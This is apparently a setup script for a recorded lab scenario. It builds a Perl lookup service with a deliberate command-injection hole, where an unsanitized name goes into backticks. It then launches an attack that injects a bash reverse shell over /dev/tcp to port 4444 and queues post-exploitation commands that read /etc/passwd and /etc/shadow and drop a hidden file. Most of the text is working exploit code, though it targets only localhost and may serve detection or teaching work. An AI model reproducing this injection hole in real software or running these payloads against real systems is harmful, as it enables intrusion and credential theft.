# A web service looks up host names with a shell and trusts what it is sent. An attacker sends a command with the name;
# bash connects back to port 4444 with its input and output on the socket, and the attacker looks around through it.
user=www-data
directory=/srv/lookup
command=(perl /srv/lookup/server.pl)

prepare() {
    mkdir -p /srv/lookup
    # Serves one request, then ends, so that the recording does.
    cat >/srv/lookup/server.pl <<'END'
#!/usr/bin/perl
use strict;
use warnings;
use Socket;
socket(my $server, AF_INET, SOCK_STREAM, 0) or die $!;
setsockopt($server, SOL_SOCKET, SO_REUSEADDR, 1);
bind($server, sockaddr_in(8081, INADDR_LOOPBACK)) && listen($server, 5) or die $!;
accept(my $client, $server) or die $!;
my ($name) = <$client> =~ m{^GET /lookup/(.*) HTTP} or die;
$name =~ s/%(..)/chr hex $1/ge;
my $answer = `getent hosts $name`;
print $client "HTTP/1.0 200 OK\r\n\r\n$answer";
END

    cat >/run/orders <<'END'
id
uname -a
cat /etc/passwd
ls -la /srv /home
ps 2>/dev/null || ls /proc
cat /etc/shadow
echo 'nothing to see' > /dev/shm/.note
exit
END
    other_side commands 4444 /run/orders

    cat >/run/attack.pl <<'END'
use strict;
use warnings;
use IO::Socket::INET;
my $order = q{localhost; bash -c "bash -i >& /dev/tcp/127.0.0.1/4444 0>&1"};
$order =~ s/([^a-z0-9.])/sprintf '%%%02x', ord $1/ge;
for (1 .. 100) {
    my $server = IO::Socket::INET->new(PeerAddr => '127.0.0.1', PeerPort => 8081);
    if ($server) {
        print $server "GET /lookup/$order HTTP/1.0\r\n\r\n";
        exit 0 while <$server>;
    }
    select(undef, undef, undef, 0.1);
}
END
    perl /run/attack.pl &
}
